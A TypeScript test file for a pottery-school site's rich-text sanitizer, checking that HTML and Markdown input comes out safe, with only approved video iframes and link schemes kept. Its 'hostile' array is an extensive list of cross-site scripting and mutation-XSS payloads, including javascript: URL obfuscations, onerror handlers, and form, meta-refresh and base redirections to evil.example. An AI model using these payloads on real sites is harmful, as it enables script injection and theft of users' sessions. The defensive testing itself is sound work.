import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { playerHosts } from '../../src/base/text/players.ts'
import { htmlOf, removedMarkup } from '../../src/school/richText.ts'

const tags =
  'h1|h2|h3|h4|h5|h6|p|br|hr|blockquote|pre|div|section|span|bdi|bdo|ruby|rt|rp|details|summary|ul|ol|li|dl|dt|dd|a|abbr|b|cite|code|del|em|i|ins|kbd|mark|q|s|small|strong|sub|sup|u|' +
  'img|iframe|figure|figcaption|table|caption|thead|tbody|tfoot|tr|th|td'
const attributes = 'href|title|rel|src|alt|width|height|loading|allow|sandbox|referrerpolicy|start|colspan|rowspan|scope|lang|dir|align'
// The whole output must be text, or tags and attributes of these lists in their strictest form. This check does not use a parser.
const safe = new RegExp(
  `^(?:[^<>]|</(?:${tags})>|<(?:${tags})(?: (?:(?:${attributes})="[^"<>]*"|open|id="text-[\\p{L}\\p{N}\\p{M}_.:-]+"))*(?: /)?>)*$`,
  'u',
)
const addresses = (html: string): string[] =>
  [...html.matchAll(/<[^>]*>/g)].flatMap(([tag]) => [...tag.matchAll(/ (?:href|src)="([^"]*)"/g)].map(([, address = '']) => address))

const frames = (html: string): string[] => html.match(/<iframe\b[^>]*>/g) ?? []

function expectSafe(html: string): void {
  expect(html).toMatch(safe)
  for (const frame of frames(html)) {
    expect(frame).toContain(' sandbox="allow-scripts ')
    expect(playerHosts).toContain(new URL(/ src="([^"]*)"/.exec(frame)?.[1] ?? '').host)
  }
  for (const address of addresses(html)) {
    const { protocol } = new URL(address.replaceAll('&amp;', '&').trim(), 'https://school.example/')
    expect(['https:', 'http:', 'mailto:', 'tel:', 'sms:']).toContain(protocol)
  }
}

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<img/src/onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://youtu.be/dQw4w9WgXcQ" srcdoc="<script>alert(1)</script>" onload="alert(1)" sandbox="allow-top-navigation"></iframe>',
  '<iframe src="https://youtu.be/dQw4w9WgXcQ"><p title="</iframe><script>alert(1)</script>">x</p><img src=x onerror=alert(1)></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ"></iframe>',
  '<iframe src="https://youtu.be/dQw4w9WgXcQ"><iframe src="javascript:alert(1)">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="&Tab;javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="//evil.example">x</a>',
  '<img src="//evil.example/pixel.png">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="https://ok.example/a.png" srcset="javascript:alert(1)">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p id="csrf" name="token" class="admin">x</p>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<a href="https://x.example" target="_blank" rel="opener" onclick="alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](data:text/html,1)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](https://x.example/a.png)',
  '[x](https://x.example "t\\"onmouseover=alert(1)")',
  '```"><script>alert(1)</script>\nx\n```',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="tel:javascript:alert(1)">x</a>',
  '<a href="sms:+49&body=<script>alert(1)</script>">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="#" id="location" name="cookie">x</a>',
  '<h1 id="__proto__">x</h1><h1>constructor</h1><a id=attributes><a id=attributes name=x>',
  '<p id="x" onmouseover=alert(1) y="">x</p>',
  '<h2 id="a b" lang="x onload=alert(1)" dir="javascript:alert(1)">x</h2>',
  '<ruby>x<rt><script>alert(1)</script><rp><img src=x onerror=alert(1)></ruby>',
  '<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>',
  '<ruby><svg><rt><style><img src=x onerror=alert(1)></style></rt></svg></ruby>',
  '<math><details><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></details></math>',
  '<table><td align="left" onclick=alert(1)" style="text-align:left;background:url(javascript:alert(1))">x</td></table>',
  '<input type=checkbox checked onfocus=alert(1) autofocus>',
  '<input type=image src=x onerror=alert(1)>',
  '<img src="http://evil.example/files/../pixel.png">',
  '<img src="http://user@evil.example/files/fil_01jgwejj00e6srgkpqm2sqf05m/a.png">',
  '# <img src=x onerror=alert(1)>\n\n# "onclick=alert(1)\n\n# &quot;&gt;&lt;script&gt;',
  'x[^1] ^[javascript:alert(1) <script>]\n\n[^1]: [y](javascript:alert(1)) <img src=x onerror=alert(1)>',
  'x[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: y',
  '- [x] <script>alert(1)</script>\n- [ ] [y](javascript:alert(1))',
  'https://x.example/"onmouseover=alert(1) javascript://x.example/%0aalert(1) //evil.example ftp://x.example',
  '^['.repeat(5000),
  '[^1]'.repeat(5000),
  '- [ ] '.repeat(2000),
  '<b'.repeat(500),
  '<!--'.repeat(500),
  '<div>'.repeat(90),
  '> '.repeat(5000),
  '['.repeat(5000),
]

describe('rich text becomes HTML that is safe on any page', () => {
  test.each(hostile)('%j', (text) => {
    expectSafe(htmlOf(text, 'html'))
    expectSafe(htmlOf(text, 'markdown'))
  })

  test('whatever is written, and made safe once more it stays as it is', () => {
    const piece = fc.oneof(
      fc.constantFrom(...hostile.map((text) => text.slice(0, 200))),
      fc.constantFrom('<', '>', '"', "'", '&', '&#x', ';', '<a href=', 'javascript:', ' onerror=', '</', '<!--', '-->', '\n\n', '`', '\0'),
      fc.string({ maxLength: 12 }),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const text = pieces.join('')
        for (const format of ['html', 'markdown'] as const) {
          const html = htmlOf(text, format)
          expectSafe(html)
          expect(htmlOf(html, 'html')).toBe(html)
        }
      }),
      { numRuns: 400 },
    )
  })

  test('a link inside a link is written as it is read: one after the other', () => {
    const html = htmlOf('<a href=<script>alert(1)</script><javascript:alert(1)><a href="java\tscript:alert(1)">x</a>', 'html')
    expect(html).not.toMatch(/<a\b[^>]*>(?:(?!<\/a>).)*<a\b/)
    expect(htmlOf(html, 'html')).toBe(html)
  })

  test('allowed elements stay', () => {
    expect(htmlOf('## Wedging\n\nFold **twice**, see [the table](https://x.example/?a=1&b=2).\n\n1. one\n2. two', 'markdown')).toBe(
      '<h2 id="text-wedging">Wedging</h2>\n<p>Fold <strong>twice</strong>, see ' +
        '<a href="https://x.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow">the table</a>.</p>\n' +
        '<ol>\n<li>one</li>\n<li>two</li>\n</ol>\n',
    )
    expect(htmlOf('| a | b |\n|---|---|\n| 1 | 2 |', 'markdown')).toContain('<td>2</td>')
    expect(htmlOf('<figure><img src="https://x.example/a.png" alt="A bowl"><figcaption>Bowl</figcaption></figure>', 'html')).toBe(
      '<figure><img src="https://x.example/a.png" alt="A bowl" loading="lazy" /><figcaption>Bowl</figcaption></figure>',
    )
  })

  test('the frame of a player stays, isolated and without cookies, and every other frame is removed', () => {
    const copied =
      '<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ?si=x" title="Wedging" frameborder="0" allowfullscreen></iframe>'
    expect(htmlOf(`<p>See:</p>${copied}`, 'html')).toBe(
      '<p>See:</p><iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="Wedging" width="560" height="315" loading="lazy" ' +
        'allow="fullscreen; encrypted-media; picture-in-picture" sandbox="allow-scripts allow-same-origin allow-forms allow-popups allow-presentation" ' +
        'referrerpolicy="strict-origin-when-cross-origin"></iframe>',
    )
    expect(htmlOf('<iframe src="//player.vimeo.com/video/1"></iframe>', 'html')).toContain('src="https://player.vimeo.com/video/1?dnt=1"')
    expect(htmlOf('<p>a</p><iframe src="https://evil.example/"></iframe><iframe></iframe>', 'html')).toBe('<p>a</p>')
  })

  test('addresses for calls and messages, anchors, languages, ruby, details, alignment and tasks stay', () => {
    const rel = ' rel="noopener noreferrer nofollow"'
    for (const address of ['tel:+49301234', 'sms:+49301234', 'mailto:a@example.org', 'https://x.example/'])
      expect(htmlOf(`[x](${address})`, 'markdown')).toBe(`<p><a href="${address}"${rel}>x</a></p>\n`)
    const kept =
      '<div lang="ar" dir="rtl"><p lang="fr">Bonjour <span lang="ja"><ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby></span></p>' +
      '<details><summary>More</summary>Text</details></div>'
    expect(htmlOf(kept, 'html')).toBe(kept)
    expect(htmlOf('| a | b |\n|:-:|--:|\n| 1 | 2 |', 'markdown')).toContain('<td align="center">1</td>\n<td align="right">2</td>')
    expect(htmlOf('<table><tr><td style="text-align: right">1</td></tr></table>', 'html')).toContain('<td align="right">1</td>')
    expect(htmlOf('- [ ] wedge\n- [x] throw', 'markdown')).toBe('<ul>\n<li>\u2610 wedge</li>\n<li>\u2611 throw</li>\n</ul>\n')
    expect(htmlOf('<ul><li><input type="checkbox" checked disabled>throw</li></ul>', 'html')).toContain('<span>\u2611 </span>throw')
  })

  test('links to headings, to ids and to footnotes lead to the part of the text, and to no part of the page', () => {
    const html = htmlOf('[up](#über-uns) [again](#über-uns-1)\n\n# Über uns!\n\n## Über uns\n\n# 陶芸\n\n# ...', 'markdown')
    expect([...html.matchAll(/ id="([^"]*)"/g)].map(([, id]) => id)).toEqual(['text-über-uns', 'text-über-uns-1', 'text-陶芸'])
    expect([...html.matchAll(/ href="#([^"]*)"/g)].map(([, id = '']) => decodeURIComponent(id))).toEqual([
      'text-über-uns',
      'text-über-uns-1',
    ])
    expect(htmlOf('<a href="#part">x</a><p id="part">y</p><a name="old">z</a>', 'html')).toMatch(
      /<a href="#text-part"[^>]*>x<\/a><p id="text-part">y<\/p><a id="text-old"/,
    )
    const notes = htmlOf('Slip[^1] and glaze[^g].\n\n[^1]: Clay and water.\n[^g]: Glass.', 'markdown')
    const ids = new Set([...notes.matchAll(/ id="([^"]*)"/g)].map(([, id]) => id))
    const links = [...notes.matchAll(/ href="#([^"]*)"/g)].map(([, id]) => id)
    expect([links.length, ids.size]).toEqual([4, 4])
    expect(links.filter((id) => !ids.has(id))).toEqual([])
    expect(notes).toContain('Clay and water.')
    expect(
      htmlOf('Other[^1]\n\n[^1]: Text', 'markdown')
        .match(/ id="[^"]*"/g)
        ?.some((id) => notes.includes(id)),
    ).toBe(false)
  })

  test('bare addresses are links, names of files are not, and comments have lines and no ids', () => {
    expect(htmlOf('See https://x.example/a?b=1.', 'markdown')).toContain(
      '<a href="https://x.example/a?b=1" rel="noopener noreferrer nofollow">https://x.example/a?b=1</a>.',
    )
    expect(htmlOf('node.js readme.md //x.example a@example.org', 'markdown')).not.toContain('<a')
    expect(htmlOf('# One\nhttps://x.example\r\nLine 2', 'comment')).toBe(
      '<h1>One</h1>\n<p><a href="https://x.example" rel="noopener noreferrer nofollow">https://x.example</a><br />\nLine 2</p>\n',
    )
  })

  test('a picture with the address of an upload stays on a service without encryption, and no other one without it', () => {
    const address = 'http://127.0.0.1:4000/files/fil_01jgwejj00e6srgkpqm2sqf05m/post%20one.png'
    expect(htmlOf(`![kiln](${address})`, 'markdown')).toContain(`<img src="${address}" alt="kiln" loading="lazy" />`)
    expect(htmlOf('![kiln](http://x.example/a.png)', 'markdown')).not.toContain('<img')
  })

  test.each([
    [
      'markdown',
      '[x](ftp://x.example/a) ![p](http://x.example/a.png) ![q](https://x.example/b.png) ![own](https://school.example/files/a.png)',
    ],
    ['html', '<a href="ftp://x.example/a">x</a><img src="http://x.example/a.png"><img src="https://x.example/b.png">'],
  ] as const)('the service names the addresses and pictures of other sites that it removes from %s', (format, text) => {
    expect(removedMarkup({ text, format, field: 'content', origin: 'https://school.example' })).toEqual([
      'a ftp://x.example/a',
      'img http://x.example/a.png',
      'img https://x.example/b.png',
    ])
  })

  test('every attribute and element that is removed is named, and nothing that stays', () => {
    const text =
      '<section class="x"><p style="color:red" data-x="1" lang="de" onclick="x()">a</p><h2 id="a b">b</h2><form><input name="q"></form></section>' +
      '<a href="tel:+49301234" target="_blank" rel="opener">c</a><td style="text-align:right">d</td><ol start="3"></ol>'
    expect(removedMarkup({ text, format: 'html', field: 'content' })).toEqual([
      'section class',
      ...['p style', 'p data-x', 'p onclick', 'h2 id', 'form', 'input'],
    ])
    for (const markdown of ['# a\n\n[up](#a) x[^1]\n\n| a |\n|--:|\n| 1 |\n\n- [x] b\n\n```js\nx\n```\n\n[^1]: note', 'a <b>tag</b>'])
      expect(removedMarkup({ text: markdown, format: 'markdown', field: 'content' })).toEqual([])
  })

  test('tags in Markdown are text', () => {
    expect(htmlOf('a <b>tag</b>', 'markdown')).toBe('<p>a &lt;b&gt;tag&lt;/b&gt;</p>\n')
  })
})
